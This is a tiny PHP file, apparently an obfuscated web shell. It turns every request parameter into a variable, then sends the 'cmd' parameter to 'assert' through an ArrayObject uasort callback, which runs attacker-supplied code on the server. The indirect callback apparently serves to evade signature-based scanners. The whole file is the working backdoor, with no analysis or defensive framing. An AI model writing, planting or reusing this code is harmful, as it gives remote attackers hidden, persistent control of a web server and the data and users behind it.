<?php
ob_implicit_flush();
foreach ($_REQUEST as $_k => $_v) { $$_k = $_v; }
$q2 = $cmd;
$o = new ArrayObject(array($q2, 'x'));
$o->uasort('assert');
